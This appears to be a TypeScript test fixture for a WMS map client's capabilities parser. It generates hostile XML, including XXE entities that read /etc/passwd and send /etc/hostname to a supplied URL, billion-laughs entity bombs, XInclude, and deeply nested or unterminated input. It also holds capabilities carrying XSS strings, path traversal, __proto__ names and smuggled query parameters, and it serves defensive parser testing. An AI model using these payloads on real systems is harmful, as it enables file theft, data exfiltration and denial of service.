import { capabilities, layer } from '../../../src-main/api-client/map-layers/wms-fixtures';

const whole = (inner: string): string => capabilities(inner);

/** XML that attacks its reader. `URL`: where some of it leads. */
export const xmlAttacks = (url: string): Readonly<Record<string, string>> => {
  const doc = (subset: string, inner = '&x;'): string =>
    `<?xml version="1.0"?><!DOCTYPE WMS_Capabilities [${subset}]>${whole(layer(inner)).replace(/^<\?xml[^>]*\?>/, '')}`;
  const nested = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
    '',
  );
  return {
    'a file as an entity': doc('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    'an address as an entity': doc(`<!ENTITY x SYSTEM "${url}/x">`),
    'a public address as an entity': doc(`<!ENTITY x PUBLIC "x" "${url}/x">`),
    'an entity as a parameter': doc(`<!ENTITY % x SYSTEM "${url}/x"> %x;`, 'a'),
    'a parameter that makes an entity': doc(`<!ENTITY % a "<!ENTITY x SYSTEM '${url}/x'>"> %a;`),
    'an entity that sends a file away': doc(
      `<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % s "<!ENTITY x SYSTEM '${url}/?%f;'>"> %s;`,
    ),
    'a thousand million laughs': doc(`<!ENTITY l0 "lol">${nested}`, '&l9;'),
    'a quadratic entity': doc(`<!ENTITY x "${'a'.repeat(50_000)}">`, '&x;'.repeat(500)),
    'an entity of itself': doc('<!ENTITY x "&x;">'),
    'two entities of each other': doc('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    'a notation': doc(`<!NOTATION n SYSTEM "${url}/n">`, 'a'),
    'an unparsed entity': doc(`<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "${url}/x" NDATA n>`, 'a'),
    'a default that is an entity': doc('<!ENTITY x "y"><!ATTLIST Layer queryable CDATA "&x;">', 'a'),
    'a DOCTYPE in the middle': whole(layer('a')).replace(
      '<Capability>',
      '<!DOCTYPE a [<!ENTITY x "y">]><Capability>',
    ),
    'a DOCTYPE in lower case': `<!doctype a [<!ENTITY x "y">]>${whole(layer('a')).replace(/^<\?xml[^>]*\?>/, '')}`,
    'an unfinished DOCTYPE': `<!DOCTYPE a [<!ELEMENT a ANY>`,
    'depth without end': `<WMS_Capabilities>${'<Layer>'.repeat(50_000)}`,
    'depth with an end': `<WMS_Capabilities>${'<Layer>'.repeat(5_000)}${'</Layer>'.repeat(5_000)}</WMS_Capabilities>`,
    'attributes without end': whole(
      `<Layer ${Array.from({ length: 250_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`,
    ),
    'an attribute twice': whole('<Layer queryable="1" queryable="0"><Name>a</Name></Layer>').slice(0, -30),
    'a document after the document': `${whole(layer('a'))}<x/>`,
    'a style sheet of another host and a broken end': `<?xml-stylesheet href="${url}/s.xsl"?>${whole(layer('a')).slice(0, -20)}`,
    'an inclusion and a broken end': `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}/i"/>`,
    'UTF-7': '+ADw-WMS_Capabilities+AD4-',
    'a name of bytes that are none': `<WMS_\u0000Capabilities/>`,
    'a comment that never ends': `<!--${' -'.repeat(100_000)}`,
    'CDATA that never ends': `<WMS_Capabilities><![CDATA[${']'.repeat(100_000)}`,
  };
};

/** Capabilities that can be read, and lie. `URL`: where some of their addresses lead. */
export const lies = (url: string): readonly string[] => {
  const online = `<OnlineResource xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${url}/led?"/>`;
  const bounds = (west: string, south: string, east: string, north: string): string =>
    `<EX_GeographicBoundingBox><westBoundLongitude>${west}</westBoundLongitude><eastBoundLongitude>${east}</eastBoundLongitude>` +
    `<southBoundLatitude>${south}</southBoundLatitude><northBoundLatitude>${north}</northBoundLatitude></EX_GeographicBoundingBox>`;
  const time = (values: string, more = ''): string =>
    `<Dimension name="time" units="ISO8601" ${more}>${values}</Dimension>`;
  const within = (inner: string): string => whole(layer('a', inner));
  return [
    ...[
      ['NaN', '0', '1', '1'],
      ['-999', '-999', '999', '999'],
      ['10', '0', '-10', '1'],
      ['0', '80', '1', '70'],
      ['', '', '', ''],
      ['1e400', '0', '1e401', '1'],
      ['0x10', '0', '1', '1'],
      ['5,0', '60', '6', '61'],
      ['Infinity', '0', '1', '1'],
      ['-0', '-0', '-0', '-0'],
    ].map(([west = '', south = '', east = '', north = '']) => within(bounds(west, south, east, north))),
    ...[
      '2026-01-01/2026-12-31/PT0S',
      '2026-01-01/2026-12-31/P-1D',
      '2026-12-31/2026-01-01/P1D',
      '0000-01-01/9999-12-31/PT0.001S',
      '2026-13-45',
      'yesterday',
      '2026-01-01T99:99:99Z',
      `${'2026-01-01,'.repeat(20_000)}2026-01-01`,
      '2026-01-01/2026-01-02',
      '/'.repeat(5_000),
      '2026-01-01/P1D',
      'current',
      '-2026-01-01',
      '2026-01-01/2026-01-02/P1D/P1D',
      'P1D',
    ].map((values) => within(time(values))),
    within(time('2026-01-01', 'default="1999-01-01"')),
    within(time('2026-01-01', 'default="javascript:1"')),
    within('<Dimension name="../../x" units="m">1</Dimension>'),
    within('<Dimension name="REQUEST" units="m">GetCapabilities</Dimension>'),
    within('<Dimension name="elevation" units="m">0/1000000000/0.001</Dimension>'),
    within('<Dimension name="__proto__" units="m">1</Dimension>'),
    within('<CRS>EPSG:3857&amp;LAYERS=other</CRS>'),
    within(`<CRS>${'EPSG:4326 '.repeat(20_000)}</CRS>`),
    within('<CRS>EPSG:999999</CRS>'),
    within(`<Style><Name>s&amp;SERVICE=x</Name><Title>s</Title></Style>`),
    within(`<Style><Name>${'s'.repeat(100_000)}</Name><Title>t</Title></Style>`),
    within(
      `<Style><Name>s</Name><Title>t</Title><LegendURL width="99999" height="99999"><Format>image/png</Format>${online}</LegendURL></Style>`,
    ),
    within(
      `<Style><Name>s</Name><Title>t</Title><StyleSheetURL><Format>text/xsl</Format>${online}</StyleSheetURL></Style>`,
    ),
    within(`<MetadataURL type="x"><Format>text/xml</Format>${online}</MetadataURL>`),
    within(`<DataURL><Format>text/html</Format>${online}</DataURL>`),
    within(`<FeatureListURL><Format>text/html</Format>${online}</FeatureListURL>`),
    within(
      `<Attribution><Title>me</Title>${online}<LogoURL width="1" height="1"><Format>image/png</Format>${online}</LogoURL></Attribution>`,
    ),
    within('<MinScaleDenominator>-1</MinScaleDenominator><MaxScaleDenominator>0</MaxScaleDenominator>'),
    within('<MinScaleDenominator>1e999</MinScaleDenominator>'),
    within('<Abstract>&lt;script&gt;globalThis.wasRun=1&lt;/script&gt;</Abstract>'),
    within(`<Abstract>${'x'.repeat(1_000_000)}</Abstract>`),
    whole(layer('a', '<Title>\u202Egnp.exe\u202C</Title>')),
    whole(layer('../../etc/passwd')),
    whole(layer('a,b')),
    whole(layer('a&amp;REQUEST=GetCapabilities')),
    whole(layer('a\nb')),
    whole(layer('__proto__')),
    whole(layer('')),
    whole(layer('x'.repeat(5_000))),
    whole(Array.from({ length: 200 }, () => layer('twice')).join('')),
    whole(Array.from({ length: 5_000 }, (_, n) => layer(`many${n}`)).join('')),
    whole(
      `<Layer><Title>g</Title>${'<Layer><Title>g</Title>'.repeat(30)}${layer('deep')}${'</Layer>'.repeat(31)}`,
    ),
    whole(
      `${layer('a')}<Request><GetMap><Format>image/svg+xml</Format><DCPType><HTTP><Get>${online}</Get></HTTP></DCPType></GetMap></Request>`,
    ),
    whole(layer('a')).replace(
      '<Service>',
      `<Service>${online}<MaxWidth>99999999</MaxWidth><MaxHeight>-5</MaxHeight>`,
    ),
    whole(layer('a')).replace(
      '<Service>',
      '<Service><Fees>&lt;img src=x onerror=globalThis.wasRun=1&gt;</Fees>',
    ),
    whole(layer('a')).replace('version="1.3.0"', 'version="9.9.9"'),
    whole(layer('a')).replace('version="1.3.0"', 'version="1.3.0&#10;x"'),
  ];
};
